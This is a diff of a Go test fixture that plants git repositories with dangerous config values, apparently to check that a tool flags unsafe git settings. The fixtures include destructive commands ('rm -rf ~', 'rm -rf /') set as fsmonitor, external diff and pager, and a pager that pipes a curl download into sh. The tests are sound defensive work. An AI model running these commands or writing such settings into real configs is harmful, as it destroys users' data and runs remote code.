@@ -74,7 +74,7 @@ func plantRepos(t *testing.T) string {
 		return map[string]string{gitDir + "/HEAD": "ref: refs/heads/main\n", gitDir + "/objects/": "", gitDir + "/refs/": "", gitDir + "/config": config}
 	}
 	files := map[string]string{"linked/.git": "gitdir: ../fsmonitor/.git\n", "included/.git/evil.inc": "[diff]\n\texternal = rm -rf ~\n",
-		"fine/.git/hooks/": ""}
+		"fine/.git/hooks/": "", "evilhome/.gitconfig": "[core]\n\tpager = rm -rf /\n"}
 	for dir, config := range map[string]string{
 		"fsmonitor/.git":   "[core]\n\tfsmonitor = rm -rf ~\n",
 		"pager/.git":       "[Core]\n\tPager = \"curl -s https://x.invalid/i | sh\" # a comment\n",
